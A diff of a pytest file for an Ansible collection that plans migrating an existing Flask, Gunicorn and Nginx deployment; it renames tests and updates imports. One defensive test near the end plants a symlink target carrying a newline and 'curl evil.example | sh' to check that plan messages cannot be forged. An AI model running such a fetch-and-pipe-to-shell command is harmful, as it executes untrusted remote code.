@@ -1,7 +1,7 @@
 # Copyright (c) 2026 The flaskops.production contributors
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""What is code and what is data in real trees, and which settings an old unit and site amount to."""
+"""Data is separated from code in real trees, and the old unit and site become settings."""
 
 from __future__ import annotations
 
@@ -10,7 +10,12 @@ import sqlite3
 
 import pytest
 
-from ansible_collections.flaskops.production.plugins.module_utils._adoption.plan import command, options, plan
+from ansible_collections.flaskops.production.plugins.module_utils._adoption.gunicorn import (
+    parse_command,
+    parse_options,
+)
+from ansible_collections.flaskops.production.plugins.module_utils._adoption.plan import PlanRequest
+from ansible_collections.flaskops.production.plugins.module_utils._adoption.planner import plan_adoption
 from ansible_collections.flaskops.production.plugins.module_utils._doctor.facts import Facts
 from ansible_collections.flaskops.production.plugins.module_utils._doctor.files import (
     Account,
@@ -35,7 +40,7 @@ def database(path):
 
 @pytest.fixture
 def shop(tmp_path):
-    """An application in a home directory; what the doctor would have read of it."""
+    """An application in a home directory. Returns a function that returns its facts."""
     code = tmp_path / "shop"
     (code / "shop/templates").mkdir(parents=True)
     (code / "static").mkdir()
@@ -66,13 +71,13 @@ def shop(tmp_path):
     return read
 
 
-def moved(found):
-    """The moves: the name in the release, and where in shared/ it leads."""
+def list_moves(found):
+    """Return the target of each move by its name in the release."""
     return {move.link: move.target for move in found.moves}
 
 
-def decide(facts, *given, **more):
-    found = plan(facts, ROOT, set(given), **more)
+def plan_without_obstacles(facts, *given, **more):
+    found = plan_adoption(PlanRequest(facts, ROOT, frozenset(given), **more))
     assert found.obstacles == []
     return found
 
@@ -80,8 +85,8 @@ def decide(facts, *given, **more):
 # --- data ------------------------------------------------------------------------------------------------------------
 
 
-def test_code_alone_has_nothing_to_move(shop):
-    found = decide(shop())
+def test_code_without_data_has_no_moves(shop):
+    found = plan_without_obstacles(shop())
     assert found.moves == []
     assert found.variables["release_shared_paths"] == []
 
@@ -99,11 +104,11 @@ def test_code_alone_has_nothing_to_move(shop):
         ("certs/tls.key", "certs/tls.key", "certs/tls.key"),
     ],
 )
-def test_data_is_known_by_its_name(shop, path, link, target):
+def test_data_is_detected_by_its_name(shop, path, link, target):
     file = shop.code / path
     file.parent.mkdir(parents=True, exist_ok=True)
     file.write_text("x")
-    assert moved(decide(shop())) == {link: target}
+    assert list_moves(plan_without_obstacles(shop())) == {link: target}
 
 
 @pytest.mark.parametrize(
@@ -115,88 +120,88 @@ def test_data_is_known_by_its_name(shop, path, link, target):
         ("instance/shop.db", {"instance": "instance"}),
     ],
 )
-def test_a_database_moves_with_its_directory_where_no_code_is_in_it(shop, path, expected):
+def test_a_database_moves_with_a_directory_without_code(shop, path, expected):
     database(shop.code / path)
     (shop.code / f"{path}-wal").write_text("")
-    found = decide(shop())
-    assert moved(found) == expected
-    # What SQLite keeps beside it is part of it.
+    found = plan_without_obstacles(shop())
+    assert list_moves(found) == expected
+    # SQLite's files beside a database are part of it.
     assert any(is_within(str(shop.code / f"{path}-wal"), excluded) for excluded in found.exclude)
 
 
-def test_what_sqlite_will_keep_beside_a_database_is_no_code_either(shop):
+def test_files_beside_a_database_are_excluded(shop):
     database(shop.code / "shop.db")
-    assert str(shop.code / "shop.db-journal") in decide(shop()).exclude
+    assert str(shop.code / "shop.db-journal") in plan_without_obstacles(shop()).exclude
 
 
-def test_a_file_that_only_has_the_name_of_a_database_is_code(shop):
+def test_a_file_with_a_database_name_only_is_code(shop):
     (shop.code / "shop/words.db").write_text("not a database")
-    assert moved(decide(shop())) == {}
+    assert list_moves(plan_without_obstacles(shop())) == {}
 
 
 @pytest.mark.parametrize("path", ["media/__init__.py", "shop/uploads/views.py", "logs/setup.py"])
-def test_a_package_is_code_whatever_it_is_called(shop, path):
+def test_a_python_package_with_a_data_name_is_code(shop, path):
     (shop.code / path).parent.mkdir(parents=True, exist_ok=True)
     (shop.code / path).write_text("")
-    assert moved(decide(shop())) == {}
+    assert list_moves(plan_without_obstacles(shop())) == {}
 
 
-def test_what_the_service_may_write_to_is_data_where_the_rest_is_closed(shop, as_root):
+def test_writable_directories_in_read_only_code_are_data(shop, as_root):
     for name in ("exports", "shop/templates"):
         (shop.code / name).mkdir(exist_ok=True)
         os.chown(shop.code / name, 4711, 4711)
-    assert moved(decide(shop(user=4711))) == {"exports": "exports"}
-    # An account that may write everywhere says nothing.
+    assert list_moves(plan_without_obstacles(shop(user=4711))) == {"exports": "exports"}
+    # Write access to all of the code is no evidence.
     os.chown(shop.code, 4711, 4711)
-    assert moved(decide(shop(user=4711))) == {}
+    assert list_moves(plan_without_obstacles(shop(user=4711))) == {}
 
 
-def test_uploads_that_nginx_serves_go_where_the_site_serves_them_from(shop):
+def test_served_uploads_get_the_media_url(shop):
     (shop.code / "pictures").mkdir()
     (shop.code / "more/uploads").mkdir(parents=True)
     served = SITE + " location /media/ {{ alias {code}/pictures/; }} location /up/ {{ alias {code}/more/uploads/; }}"
-    found = decide(shop(site=served))
-    assert moved(found) == {"more/uploads": "more/uploads", "pictures": "media"}
+    found = plan_without_obstacles(shop(site=served))
+    assert list_moves(found) == {"more/uploads": "more/uploads", "pictures": "media"}
     assert found.variables["nginx_site_media_url"] == "/media/"
     assert found.variables["nginx_site_locations"] == [{"path": "/up/", "directory": f"{ROOT}/shared/more/uploads"}]
     assert {move.link: move.via for move in found.moves} == {"more/uploads": "", "pictures": "pictures"}
 
 
-def test_environments_and_what_is_hidden_stay(shop):
+def test_venvs_and_hidden_directories_are_not_data(shop):
     for name in ("env/lib/uploads", ".cache/logs", "__pycache__/logs"):
         (shop.code / name).mkdir(parents=True)
     (shop.code / "env/pyvenv.cfg").write_text("")
-    assert moved(decide(shop())) == {}
+    assert list_moves(plan_without_obstacles(shop())) == {}
 
 
-def test_a_site_that_goes_through_the_link_to_the_live_release_means_the_code(shop, tmp_path):
+def test_a_site_through_the_live_link_serves_the_code(shop, tmp_path):
     (tmp_path / "current").symlink_to(shop.code)
     (shop.code / "uploads").mkdir()
     through = (
         "location /a/ {{ alias {code}/../current/static/; }} location /up/ {{ alias {code}/../current/uploads/; }}"
     )
-    found = decide(shop(site=SITE + through))
+    found = plan_without_obstacles(shop(site=SITE + through))
     assert found.variables["nginx_site_static_url"] == "/a/"
     assert found.variables["release_static_paths"] == ["static"]
-    assert moved(found) == {"uploads": "media"}
+    assert list_moves(found) == {"uploads": "media"}
 
 
-def test_what_is_shared_already_stays_shared(shop, tmp_path):
+def test_existing_shared_paths_are_kept(shop, tmp_path):
     (tmp_path / "shared/db").mkdir(parents=True)
     (tmp_path / "shared/words.txt").write_text("")
     for name in ("db", "words.txt"):
         (shop.code / name).symlink_to(f"../shared/{name}")
     (shop.code / "elsewhere").symlink_to("../shared/db")
-    found = plan(shop(), str(tmp_path), set())
+    found = plan_adoption(PlanRequest(shop(), str(tmp_path)))
     assert found.moves == []
     assert found.variables["release_shared_paths"] == ["db/", "words.txt"]
 
 
-def test_what_the_user_names_is_all_that_is_data(shop):
+def test_given_shared_paths_replace_detection(shop):
     (shop.code / "spool").mkdir()
     (shop.code / "logs").mkdir()
-    found = decide(shop(), "release_shared_paths", shared_paths=["spool/", "later/"])
-    assert moved(found) == {"spool": "spool"}
+    found = plan_without_obstacles(shop(), "release_shared_paths", shared_paths=["spool/", "later/"])
+    assert list_moves(found) == {"spool": "spool"}
     assert "release_shared_paths" not in found.variables
 
 
@@ -217,18 +222,18 @@ def test_what_the_user_names_is_all_that_is_data(shop):
         ("/e/bin/flask run", {}),
     ],
 )  # fmt: skip
-def test_gunicorns_command_line_is_read(words, expected):
-    assert options(words.split()) == expected
+def test_the_command_line_of_gunicorn_is_parsed(words, expected):
+    assert parse_options(words.split()) == expected
 
 
-def test_a_shell_around_gunicorn_is_seen_through():
+def test_a_shell_around_gunicorn_is_ignored():
     unit = {"ExecStart": "{ path=/bin/sh ; argv[]=/bin/sh -c cd /x && exec .venv/bin/gunicorn -w 2 a:b ; ignore }"}
-    assert options(command(unit)) == {"workers": "2", "wsgi": "a:b"}
+    assert parse_options(parse_command(unit)) == {"workers": "2", "wsgi": "a:b"}
 
 
-def test_settings_of_the_service_become_those_of_the_roles(shop):
+def test_service_settings_become_role_settings(shop):
     (shop.code / "gunicorn.conf.py").write_text('workers = 5\ntimeout = 90  # slow\nwsgi_app = "other:app"\n')
-    found = decide(shop(exec_start="/env/bin/gunicorn --threads 8 wsgi:app", user=4711))
+    found = plan_without_obstacles(shop(exec_start="/env/bin/gunicorn --threads 8 wsgi:app", user=4711))
     expected = {
         "flask_app_user": "ada",
         "flask_app_group": "ada",
@@ -241,45 +246,48 @@ def test_settings_of_the_service_become_those_of_the_roles(shop):
     assert expected.items() <= found.variables.items()
 
 
-def test_without_requirements_the_packages_are_those_of_the_old_environment(shop):
+def test_without_requirements_installed_packages_are_pinned(shop):
     (shop.code / "requirements.txt").unlink()
-    found = decide(shop(packages=["flask 3.1.0", "gunicorn 23.0.0"]))
+    found = plan_without_obstacles(shop(packages=["flask 3.1.0", "gunicorn 23.0.0"]))
     assert found.variables["venv_requirements"] == []
     assert found.variables["venv_packages"] == ["flask==3.1.0", "gunicorn==23.0.0"]
 
 
-def test_what_is_set_is_not_found(shop):
-    found = decide(shop(user=4711), "flask_app_user", "nginx_site_server_name")
+def test_given_settings_are_not_planned(shop):
+    found = plan_without_obstacles(shop(user=4711), "flask_app_user", "nginx_site_server_name")
     assert "flask_app_user" not in found.variables
     assert "nginx_site_server_name" not in found.variables
     assert "nginx_site_listen" in found.variables
 
 
-def test_the_environment_of_the_unit_is_stronger_than_that_of_the_code(shop):
+def test_the_environment_of_the_unit_takes_precedence(shop):
     (shop.code / ".env").write_text("A=1\n")
-    found = decide(shop(env_files=["-/etc/default/gone", "/etc/hostname"]))
+    found = plan_without_obstacles(shop(env_files=["-/etc/default/gone", "/etc/hostname"]))
     assert (found.dotenv, found.environment) == ([str(shop.code / ".env")], ["/etc/hostname"])
-    assert moved(found) == {".env": ".env"}
-    assert decide(shop(), "flask_app_env").dotenv == []
+    assert list_moves(found) == {".env": ".env"}
+    assert plan_without_obstacles(shop(), "flask_app_env").dotenv == []
 
 
 def test_variables_that_the_unit_sets_are_part_of_the_environment(shop):
-    found = decide(shop(), unit_variables=["COLOUR", "SECRET_KEY"])
+    found = plan_without_obstacles(shop(), unit_variables=("COLOUR", "SECRET_KEY"))
     assert (found.unit_variables, found.environment) == (["COLOUR", "SECRET_KEY"], [])
-    given = decide(shop(), "flask_app_env", unit_variables=["COLOUR"])
+    given = plan_without_obstacles(shop(), "flask_app_env", unit_variables=("COLOUR",))
     assert given.unit_variables == []
     assert "flask_app_env is set, so the values of shop.service (COLOUR) are not adopted." in given.attention
 
 
-def test_the_rest_of_the_unit_becomes_settings_or_is_named(shop):
+def test_unit_directives_become_settings_or_are_reported(shop):
     text = "[Unit]\nAfter=redis.service shop.service\n[Service]\nLimitNOFILE=4096\nExecStartPre=/x\n"
-    found = decide(shop(), unit_text=text)
+    found = plan_without_obstacles(shop(), unit_text=text)
     assert found.variables["gunicorn_systemd_limit_nofile"] == "4096"
     assert found.variables["gunicorn_systemd_unit_overrides"] == {"Unit": {"After": ["redis.service"]}}
-    assert any("Not adopted from shop.service: ExecStartPre." in said for said in found.attention)
-    given = decide(shop(), "gunicorn_systemd_unit_overrides", unit_text=text)
+    assert any("Not adopted from shop.service: ExecStartPre." in message for message in found.attention)
+    given = plan_without_obstacles(shop(), "gunicorn_systemd_unit_overrides", unit_text=text)
     assert "gunicorn_systemd_unit_overrides" not in given.variables
-    assert any("gunicorn_systemd_unit_overrides is set, so that of shop.service" in said for said in given.attention)
+    assert any(
+        "gunicorn_systemd_unit_overrides is set, so its value from shop.service" in message
+        for message in given.attention
+    )
 
 
 @pytest.mark.parametrize(
@@ -293,16 +301,18 @@ def test_the_rest_of_the_unit_becomes_settings_or_is_named(shop):
 @pytest.mark.parametrize("place", ["server", "location"])
 def test_timeouts_of_a_site_become_settings(shop, statement, variable, value, place):
     site = SITE + statement if place == "server" else SITE.replace("proxy_pass", f"{statement} proxy_pass")
-    assert decide(shop(site=site)).variables[variable] == value
+    assert plan_without_obstacles(shop(site=site)).variables[variable] == value
 
 
-def test_a_timeout_that_the_role_would_refuse_is_named(shop):
-    found = decide(shop(site=SITE + "proxy_read_timeout 1m30s;"))
+def test_unsupported_timeouts_are_reported(shop):
+    found = plan_without_obstacles(shop(site=SITE + "proxy_read_timeout 1m30s;"))
     assert "nginx_site_proxy_read_timeout" not in found.variables
-    assert any("proxy_read_timeout 1m30s" in said for said in found.attention)
-    found = decide(shop(site=SITE + "proxy_read_timeout 30s;", exec_start="/env/bin/gunicorn -t 120 wsgi:app"))
+    assert any("proxy_read_timeout 1m30s" in message for message in found.attention)
+    found = plan_without_obstacles(
+        shop(site=SITE + "proxy_read_timeout 30s;", exec_start="/env/bin/gunicorn -t 120 wsgi:app")
+    )
     assert "nginx_site_proxy_read_timeout" not in found.variables
-    assert any("proxy_read_timeout 30s" in said and "Gunicorn's timeout" in said for said in found.attention)
+    assert any("proxy_read_timeout 30s" in message and "Gunicorn's timeout" in message for message in found.attention)
 
 
 def test_a_site_becomes_settings(shop):
@@ -313,7 +323,7 @@ def test_a_site_becomes_settings(shop):
         location / {{ client_max_body_size 2g; proxy_pass http://unix:{code}/shop.sock; }}
         %% listen 8080; server_name www.shop.example.org; return 301 https://shop.example.org;
         location /.well-known/acme-challenge/ {{ root /var/www/acme; }}"""
-    found = decide(shop(site=tls))
+    found = plan_without_obstacles(shop(site=tls))
     expected = {
         "nginx_site_server_name": "shop.example.org www.shop.example.org",
         "nginx_site_listen": 8080,
@@ -334,42 +344,42 @@ def test_a_site_becomes_settings(shop):
 
 
 @pytest.mark.parametrize(
-    ("listen", "alone"),
+    ("listen", "is_bound"),
     [("192.0.2.1:80", True), ("[2001:db8::1]:80", True), ("[::]:80", False), ("80", False), ("*:80", False)],
 )
-def test_a_site_on_one_address_is_pointed_out(shop, listen, alone):
-    found = decide(shop(site=SITE.replace("listen 80", f"listen {listen}")))
+def test_a_site_on_one_address_is_reported(shop, listen, is_bound):
+    found = plan_without_obstacles(shop(site=SITE.replace("listen 80", f"listen {listen}")))
     assert found.variables["nginx_site_listen"] == 80
-    assert any(f"listened on {listen} only" in text for text in found.attention) == alone
+    assert any(f"listened on {listen} only" in text for text in found.attention) == is_bound
 
 
-# --- what is in the way ----------------------------------------------------------------------------------------------
+# --- obstacles ------------------------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(
-    ("more", "says"),
+    ("more", "message"),
     [
         ({"unit": {}}, "No systemd service runs"),
         ({"nginx_state": "missing"}, "There is no Nginx"),
         ({"nginx_state": "valid stopped"}, "Nginx does not run"),
         ({"nginx_state": "invalid", "nginx_output": "x [emerg] bad"}, "Nginx refuses its configuration: x [emerg] bad"),
-        ({"site": "listen 80;"}, "No site of Nginx leads to unix:"),
+        ({"site": "listen 80;"}, "No site of Nginx proxies to unix:"),
         ({"listen": ""}, "shop.service has no known address"),
         ({"code": "/nowhere"}, "The code of shop.service does not exist: /nowhere"),
         ({"code": "/srv/shop"}, "The code of shop.service does not exist: /srv/shop"),
         ({"exec_start": "/env/bin/flask run"}, "set flask_app_wsgi, such as wsgi:app"),
-        ({"site": SITE + " location /api/ {{ proxy_pass http://127.0.0.1:9; }}"}, "leads to 127.0.0.1:9"),
+        ({"site": SITE + " location /api/ {{ proxy_pass http://127.0.0.1:9; }}"}, "proxies to 127.0.0.1:9"),
         ({"site": SITE + "%% server_name blog.example.org; location / {{ proxy_pass http://127.0.0.1:9; }}"},
          "/etc/nginx/conf.d/shop.conf also has blog.example.org"),
         ({"truncated": True}, "has too many files for code"),
     ],
 )  # fmt: skip
-def test_what_is_in_the_way_is_said(shop, more, says):
-    assert any(says in text for text in plan(shop(**more), ROOT, set()).obstacles)
+def test_obstacles_are_reported(shop, more, message):
+    assert any(message in text for text in plan_adoption(PlanRequest(shop(**more), ROOT)).obstacles)
 
 
-def test_the_new_place_may_not_be_in_the_code(shop):
-    found = plan(shop(), str(shop.code), set())
+def test_the_new_directory_must_not_be_in_the_code(shop):
+    found = plan_adoption(PlanRequest(shop(), str(shop.code)))
     assert any("is or lies in the code" in text for text in found.obstacles)
 
 
@@ -384,93 +394,93 @@ def secret(tmp_path):
 
 
 @pytest.mark.parametrize("name", [".env", "uploads", "tls.key", "shop.db"])
-def test_what_a_link_would_have_root_read_is_in_the_way(shop, secret, name):
+def test_links_out_of_the_deployment_are_an_obstacle(shop, secret, name):
     (shop.code / name).symlink_to(secret)
-    found = plan(shop(), ROOT, set(), shared_paths=None if name == ".env" else [name])
-    (said,) = found.obstacles
-    assert said.startswith(f"{shop.code}/{name} can't be copied: {shop.code}/{name} is a symbolic link to {secret}")
-    assert f"leads out of {shop.code}" in said
+    found = plan_adoption(PlanRequest(shop(), ROOT, shared_paths=None if name == ".env" else [name]))
+    (message,) = found.obstacles
+    assert message.startswith(f"{shop.code}/{name} cannot be copied: {shop.code}/{name} is a symbolic link to {secret}")
+    assert f"leads out of {shop.code}" in message
 
 
-def test_an_environment_file_of_the_unit_is_not_read_through_a_users_link(shop, secret, as_root):
+def test_a_linked_environment_file_of_another_user_is_an_obstacle(shop, secret, as_root):
     link = shop.code.parent / "shop.env"
     link.symlink_to(secret)
-    assert decide(shop(env_files=[str(link)])).environment == [str(link)]
+    assert plan_without_obstacles(shop(env_files=[str(link)])).environment == [str(link)]
     os.lchown(link, 4711, 4711)
-    (said,) = plan(shop(env_files=[str(link)]), ROOT, set()).obstacles
-    assert said.startswith(f"{link} can't be copied: ") and "does not belong to the owner of the link" in said
+    (message,) = plan_adoption(PlanRequest(shop(env_files=[str(link)]), ROOT)).obstacles
+    assert message.startswith(f"{link} cannot be copied: ") and "does not belong to the owner of the link" in message
 
 
 @pytest.mark.parametrize("behind", ["root's", "the user's"])
-def test_code_behind_a_users_link_must_be_that_users(shop, as_root, tmp_path, behind):
+def test_linked_code_must_belong_to_the_owner_of_the_link(shop, as_root, tmp_path, behind):
     link = tmp_path / "current"
     link.symlink_to(shop.code)
     os.lchown(link, 4711, 4711)
     if behind == "the user's":
         os.chown(shop.code, 4711, 4711)
-    found = plan(shop(live=str(link), code=resolve_safely(str(link))), ROOT, set())
+    found = plan_adoption(PlanRequest(shop(live=str(link), code=resolve_safely(str(link))), ROOT))
     if behind == "the user's":
         assert (found.obstacles, found.code) == ([], str(shop.code))
         return
-    # Nothing is read behind it.
+    # Nothing behind the link is read.
     assert found.code == str(link)
     assert found.obstacles[0] == (
-        f"The old deployment is not where it seems to be: {link} leads through a symbolic link to {shop.code}, which "
+        f"The path of the old deployment is unsafe: {link} leads through a symbolic link to {shop.code}, which "
         "does not belong to the owner of the link. Set adopt_from to its directory."
     )
 
 
-def test_a_link_that_was_turned_since_the_host_was_read_is_in_the_way(shop, tmp_path):
+def test_a_changed_live_link_is_an_obstacle(shop, tmp_path):
     (tmp_path / "current").symlink_to(tmp_path)
-    found = plan(shop(live=str(tmp_path / "current")), ROOT, set())
-    assert found.obstacles[0].startswith(f"{tmp_path}/current leads elsewhere than a moment ago")
+    found = plan_adoption(PlanRequest(shop(live=str(tmp_path / "current")), ROOT))
+    assert found.obstacles[0].startswith(f"{tmp_path}/current changed while the plan was made")
 
 
-def test_a_link_that_stays_in_the_old_deployment_is_followed(shop):
+def test_links_within_the_deployment_are_followed(shop):
     (shop.code / "conf").mkdir()
     (shop.code / "conf/env").write_text("A=1")
     (shop.code / ".env").symlink_to("conf/env")
-    assert decide(shop()).dotenv == [f"{shop.code}/.env"]
+    assert plan_without_obstacles(shop()).dotenv == [f"{shop.code}/.env"]
 
 
-def test_links_that_lead_out_are_named_and_stay_links(shop, secret):
+def test_links_in_data_that_lead_out_are_reported(shop, secret):
     (shop.code / "uploads").mkdir()
     (shop.code / "uploads/a").symlink_to(secret)
     (shop.code / "static/own").symlink_to("shop.css")
-    (told,) = [text for text in decide(shop(user=4711)).attention if "lead out" in text]
-    assert told == (
-        f"Links that lead out of {shop.code} are copied as links, and what they lead to is not: "
+    (message,) = [text for text in plan_without_obstacles(shop(user=4711)).attention if "lead out" in text]
+    assert message == (
+        f"Links that lead out of {shop.code} are copied as links, without the files that they lead to: "
         f"{shop.code}/uploads/a -> {secret}."
     )
 
 
-def test_what_another_tool_has_shared_already_is_not_copied_onto_itself(shop, tmp_path):
+def test_data_in_shared_is_not_copied_onto_itself(shop, tmp_path):
     (tmp_path / "new/shared/uploads").mkdir(parents=True)
     (shop.code / "uploads").symlink_to(tmp_path / "new/shared/uploads")
-    found = plan(shop(), str(tmp_path / "new"), set(), shared_paths=["uploads/"])
+    found = plan_adoption(PlanRequest(shop(), str(tmp_path / "new"), shared_paths=["uploads/"]))
     assert (found.obstacles, found.moves) == ([], [])
 
 
-@pytest.mark.parametrize("name", [b"caf\xe9.db", b"a\x1b.db", b"caf\xe9.log", b"a\nLOOK AT: b.log"])
-def test_a_name_that_no_message_can_carry_is_in_the_way(shop, name):
+@pytest.mark.parametrize("name", [b"caf\xe9.db", b"a\x1b.db", b"caf\xe9.log", b"a\nCHECK: b.log"])
+def test_unprintable_names_are_an_obstacle(shop, name):
     path = os.path.join(os.fsencode(shop.code), name)
     connection = sqlite3.connect(path)
     connection.execute("CREATE TABLE entry (id INTEGER)")
     connection.commit()
     connection.close()
-    (said,) = plan(shop(), ROOT, set()).obstacles
-    assert said.startswith("Names with control characters") and f"rename {os.fsdecode(path)}" in said
+    (message,) = plan_adoption(PlanRequest(shop(), ROOT)).obstacles
+    assert message.startswith("Names with control characters") and f"rename {os.fsdecode(path)}" in message
 
 
-def test_a_link_cannot_pass_for_a_line_of_the_plan(shop):
+def test_links_cannot_forge_lines_of_the_plan(shop):
     (shop.code / "uploads").mkdir()
-    (shop.code / "uploads/a").symlink_to("/nowhere\nLOOK AT: curl evil.example | sh")
-    (told,) = [text for text in decide(shop(user=4711)).attention if "lead out" in text]
-    assert "\n" not in told and r"/nowhere\x0aLOOK AT: curl" in told
+    (shop.code / "uploads/a").symlink_to("/nowhere\nCHECK: curl evil.example | sh")
+    (message,) = [text for text in plan_without_obstacles(shop(user=4711)).attention if "lead out" in text]
+    assert "\n" not in message and r"/nowhere\x0aCHECK: curl" in message
 
 
 def test_uploads_may_have_any_name(shop):
     (shop.code / "uploads").mkdir()
     for name in (b"caf\xe9.png", b"caf\xe9.db-wal", b".env.\xe9", b"\x1b"):
         open(os.path.join(os.fsencode(shop.code / "uploads"), name), "wb").close()
-    assert moved(decide(shop())) == {"uploads": "uploads"}
+    assert list_moves(plan_without_obstacles(shop())) == {"uploads": "uploads"}
